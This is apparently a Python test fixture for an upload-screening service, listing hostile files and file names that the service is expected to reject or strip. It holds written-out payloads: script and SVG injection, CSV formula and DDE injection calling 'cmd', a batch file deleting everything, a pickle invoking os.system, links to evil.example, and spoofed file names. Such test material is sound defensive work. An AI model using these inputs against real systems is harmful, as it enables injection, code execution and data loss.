"""More files that somebody with bad intent sends: pictures, texts, tables, other kinds, and names."""

from __future__ import annotations

import zlib

from tests.records.documents import making
from tests.records.documents.cases import Case, Planted
from tests.records.documents.making import chunk, docx, exif, jpeg, pdf, png, segment

SCRIPT = b"<script>x()</script>"


def _note(name: bytes, body: bytes) -> bytes:
    return png(chunk(name, body))


def _second_frame() -> bytes:
    """A small frame first, then one of a billion pixels, as no camera writes."""
    big = bytes((8,)) + (40_000).to_bytes(2, "big") * 2 + bytes((1, 1, 0x11, 0))
    return jpeg(segment(0xC2, big))


PICTURES: dict[str, Case] = {
    "a JPEG too wide": Case("a.jpg", lambda: jpeg(width=65535, height=1), "pixels"),
    "a JPEG too high": Case("a.jpg", lambda: jpeg(width=1, height=65535), "pixels"),
    "a JPEG too large": Case("a.jpg", lambda: jpeg(width=65535, height=65535), "pixels"),
    "a JPEG without height": Case("a.jpg", lambda: jpeg(height=0), "damaged"),
    "a JPEG with a second, larger frame": Case("a.jpg", _second_frame, "pixels"),
    "a JPEG with a part longer than itself": Case(
        "a.jpg", lambda: b"\xff\xd8\xff\xe1\xff\xff" + bytes(99), "damaged"
    ),
    "a JPEG with a page among its notes": Case("a.jpg", lambda: jpeg(segment(0xE1, b"x" + SCRIPT)), "hidden"),
    "a JPEG with a page where it was taken": Case("a.jpg", lambda: jpeg(exif(place=SCRIPT)), "hidden"),
    "a JPEG with a page behind it": Case("a.jpg", lambda: jpeg(behind=b"<html>" + SCRIPT), "hidden"),
    "a JPEG with a drawing behind it": Case("a.jpg", lambda: jpeg(behind=b"<svg onload=x()>"), "hidden"),
    "a JPEG with a Word file behind it": Case("a.jpg", lambda: jpeg(behind=docx()), "hidden"),
    "a PNG with a page in a part of its own": Case("a.png", lambda: _note(b"prVt", SCRIPT), "hidden"),
    "a PNG with a page for colours": Case("a.png", lambda: _note(b"PLTE", SCRIPT + b"x"), "hidden"),
    "a PNG with PHP in a note": Case("a.png", lambda: _note(b"tEXt", b"a\0<?php x"), "hidden"),
    "a PNG with a page in a long note": Case(
        "a.png", lambda: _note(b"iTXt", b"a\0\0\0\0\0" + SCRIPT), "hidden"
    ),
    "a PNG with a page in a packed note": Case(
        "a.png", lambda: _note(b"zTXt", b"a\0\0" + zlib.compress(SCRIPT)), "hidden"
    ),
    "a PNG with a bomb for colours": Case(
        "a.png", lambda: _note(b"iCCP", b"a\0\0" + zlib.compress(making.zeros(9))), "far larger"
    ),
    "a PNG with a bomb in a long note": Case(
        "a.png", lambda: _note(b"iTXt", b"a\0\1\0\0\0" + zlib.compress(making.zeros(9))), "far larger"
    ),
    "a PNG a mile wide": Case("a.png", lambda: png(width=2**31 - 1, height=1), "pixels"),
    "a PNG of more than is possible": Case("a.png", lambda: png(width=2**32 - 1, height=2**32 - 1), "pixels"),
    "a PNG with a part longer than itself": Case(
        "a.png", lambda: png()[:8] + b"\x7f\xff\xff\xffIHDR" + bytes(99), "damaged"
    ),
    "a PNG without a head": Case(
        "a.png", lambda: png()[:8] + chunk(b"IDAT", b"") + chunk(b"IEND", b""), "damaged"
    ),
    "a PNG with a Word file behind it": Case("a.png", lambda: png(behind=docx()), "hidden"),
    "a PNG with a PDF behind it": Case("a.png", lambda: png(behind=pdf()), "hidden"),
    "a packed drawing": Case("a.svgz", lambda: b"\x1f\x8b\x08" + bytes(99), "archive"),
    "a drawing named as a JPEG": Case("a.jpg", lambda: b"<svg onload='x()'/>", "not what is in it"),
    "a drawing named as text": Case("a.txt", lambda: b"<svg onload='x()'/>", "web page"),
    "a picture of Photoshop": Case("a.psd", lambda: b"8BPS\x00\x01" + bytes(99), "not kept"),
    "an icon": Case("a.ico", lambda: b"\x00\x00\x01\x00\x01\x00" + bytes(99), "not kept"),
    "a JPEG of the year 2000": Case(
        "a.jp2", lambda: b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(99), "not kept"
    ),
    "an old drawing of Windows": Case("a.wmf", lambda: b"\xd7\xcd\xc6\x9a" + bytes(99), "not kept"),
    "PostScript": Case("a.eps", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(x) run", "not kept"),
    "PostScript named as text": Case("a.txt", lambda: b"%!PS-Adobe-3.0\n(%pipe%id) (r) file", "script"),
}
TEXTS: dict[str, Case] = {
    "a page in UTF-16 the other way round": Case(
        "a.txt", lambda: b"\xfe\xff" + "<script>x</script>".encode("utf-16-be"), "web page"
    ),
    "a page in UTF-16 without its mark": Case(
        "a.txt", lambda: "<script>".encode("utf-16-le") * 9, "no plain text"
    ),
    "a page in UTF-32": Case("a.txt", lambda: "<script>x</script>".encode("utf-32"), "plain text"),
    "a page in UTF-7": Case("a.txt", lambda: b"+ADw-script+AD4-x()+ADw-/script+AD4-", "web page"),
    "a page of one picture": Case("a.txt", lambda: b"<img src=x onerror=alert(1)>", "web page"),
    "a page of one link": Case("a.txt", lambda: b"<a href='javascript:x()'>", "web page"),
    "a page of one form": Case("a.txt", lambda: b"<form action=//evil.example>", "web page"),
    "a page of one style": Case("a.txt", lambda: b"<style>@import '//evil.example'</style>", "web page"),
    "XML that fetches": Case(
        "a.txt", lambda: b"<?xml version='1.0'?><!DOCTYPE x SYSTEM 'http://e'>", "web page"
    ),
    "a page of ASP": Case("a.txt", lambda: b"<%@ Page Language='C#' %>", "web page"),
    "a page in a table": Case("a.csv", lambda: b"a,b\n<script>x</script>,c\n", "web page"),
    "text with the way back": Case("a.txt", lambda: b"hello\x08\x08\x08\x08bye", "no plain text"),
    "text for a terminal": Case("a.txt", lambda: b"\x1b]0;evil\x07\x1b[2J", "no plain text"),
    "a table with a formula after a line end of old": Case("a.csv", lambda: b"a,b\r=1+1,2\r", "Line 2"),
    "a table with a formula in UTF-16": Case("a.csv", lambda: "a\n=1+1\n".encode("utf-16"), "Line 2"),
    "a table with a formula after its mark": Case("a.csv", lambda: b"\xef\xbb\xbf=1+1,a\n", "Line 1"),
    "a table with a formula after a semicolon": Case("a.csv", lambda: b"a;b\nc;=1+1\n", "Line 2"),
    "a table with a formula behind a hard space": Case("a.csv", lambda: "a\n\u00a0=1+1\n".encode(), "Line 2"),
    "a table with a formula behind nothing seen": Case(
        "a.csv", lambda: "a\n\u200b@SUM(A1)\n".encode(), "Line 2"
    ),
    "a table that asks a program": Case("a.csv", lambda: b"a\n-2+3+cmd|' /C calc'!A0\n", "Line 2"),
    "a table that says what separates it": Case("a.csv", lambda: b"sep=~\na~=1+1\n", "Line"),
    "a table of links between files": Case(
        "a.slk", lambda: b'ID;PWXL;N;E\nC;Y1;X1;EEXEC("calc")\nE\n', "not kept"
    ),
    "a query": Case("a.iqy", lambda: b"WEB\n1\nhttp://evil.example/x\n", "not kept"),
}
OTHERS: dict[str, Case] = {
    "a script of Windows": Case("a.bat", lambda: b"@echo off\r\ndel *.*", "not kept"),
    "a script of PowerShell": Case("a.ps1", lambda: b"Invoke-Expression x", "not kept"),
    "a script of Visual Basic": Case("a.vbs", lambda: b'CreateObject("WScript.Shell")', "not kept"),
    "a script of a browser": Case("a.js", lambda: b"new ActiveXObject('x')", "not kept"),
    "an application of HTML": Case("a.hta", lambda: b"<hta:application><script>", "not kept"),
    "entries for the registry": Case("a.reg", lambda: b"Windows Registry Editor Version 5.00\n", "not kept"),
    "a shortcut to a web page": Case(
        "a.url", lambda: b"[InternetShortcut]\nURL=file://evil.example/x", "not kept"
    ),
    "a command of the shell": Case("a.scf", lambda: b"[Shell]\nIconFile=\\\\evil.example\\x", "not kept"),
    "a shortcut of Linux": Case("a.desktop", lambda: b"[Desktop Entry]\nExec=sh -c x", "not kept"),
    "a notebook of OneNote": Case(
        "a.one", lambda: bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(99), "not kept"
    ),
    "help of Windows": Case("a.chm", lambda: b"ITSF\x03\x00\x00\x00" + bytes(99), "not kept"),
    "a disc of Windows": Case("a.vhd", lambda: b"conectix" + bytes(504), "not kept"),
    "a virtual disc": Case("a.vmdk", lambda: b"KDMV\x01\x00\x00\x00" + bytes(504), "not kept"),
    "an archive of ace": Case("a.ace", lambda: bytes(7) + b"**ACE**" + bytes(99), "not kept"),
    "a set-up of Windows": Case(
        "a.msi", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(999), "old kind"
    ),
    "a program of Android": Case(
        "a.apk", lambda: making.package({"AndroidManifest.xml": "x", "classes.dex": "dex"}), "archive"
    ),
    "a program of Python": Case("a.pyc", lambda: b"\xa7\r\r\n" + bytes(99), "not kept"),
    "an object of Python": Case("a.pkl", lambda: b"\x80\x04\x95\x00\x00cos\nsystem\n", "not kept"),
    "an object of Java": Case("a.ser", lambda: b"\xac\xed\x00\x05sr" + bytes(99), "not kept"),
    "a page kept as one file": Case(
        "a.mht", lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related", "not kept"
    ),
    "a page in a card": Case("a.vcf", lambda: b"BEGIN:VCARD\nURL:javascript:x\nEND:VCARD", "not kept"),
    "OpenDocument in one file": Case(
        "a.fodt", lambda: b"<?xml version='1.0'?><office:document/>", "not kept"
    ),
    "Word in one file": Case("a.xml", lambda: b"<?mso-application progid='Word.Document'?>", "not kept"),
}
# Let in, and what should not reach others is not in their copy.
NEUTRALISED: dict[str, Planted] = {
    "a JPEG with a place": Planted("a.jpg", lambda: jpeg(exif(place=b"54.0466 N")), b"54.0466"),
    "a JPEG with a comment": Planted("a.jpg", lambda: jpeg(segment(0xFE, b"by Anna Bell")), b"Anna Bell"),
    "a JPEG with what Photoshop adds": Planted(
        "a.jpg", lambda: jpeg(segment(0xED, b"Photoshop 3.0")), b"Photoshop"
    ),
    "a JPEG with a small copy before it was cut": Planted(
        "a.jpg", lambda: jpeg(segment(0xE2, b"MPF\0uncut picture")), b"uncut"
    ),
    "a JPEG with a program behind it": Planted("a.jpg", lambda: jpeg(behind=b"MZ\x90\0program"), b"program"),
    "a PNG with a place": Planted("a.png", lambda: _note(b"eXIf", b"54.0466 N"), b"54.0466"),
    "a PNG with an author": Planted("a.png", lambda: _note(b"tEXt", b"Author\0Anna Bell"), b"Anna Bell"),
    "a PNG with a part that nobody knows": Planted(
        "a.png", lambda: _note(b"prVt", b"secret words"), b"secret"
    ),
    "a PNG with a program behind it": Planted("a.png", lambda: png(behind=b"MZ\x90\0program"), b"program"),
}
NAMES = {
    "of a device of Windows": "CON.pdf",
    "of a printer of Windows": "lpt1.pdf",
    "with a second stream": "letter.pdf:evil.exe",
    "with a wildcard": "letter*.pdf",
    "with a redirect": "letter>x.pdf",
    "with a pipe": "letter|x.pdf",
    "with quotation marks": 'letter"; filename="evil.exe".pdf',
    "with a mark that isolates": "a\u2066fdp.exe\u2069.pdf",
    "with a soft hyphen": "let\u00adter.pdf",
    "with a tag": "letter\U000e0041.pdf",
    "with a line separator": "letter\u2028.pdf",
    "with a bell": "letter\x07.pdf",
    "with a dot at its end": "letter.pdf.",
    "with a private letter": "letter\ue000.pdf",
    "of a program before its end": "letter.exe.pdf",
    "of a script before its end": "letter.js.pdf",
    "of a web page behind it": "letter.pdf.html",
    "of a shortcut behind it": "letter.pdf.lnk",
    "in look-alike letters": "letter.\u0440df",
    "in wide letters": "letter.\uff50\uff44\uff46",
}
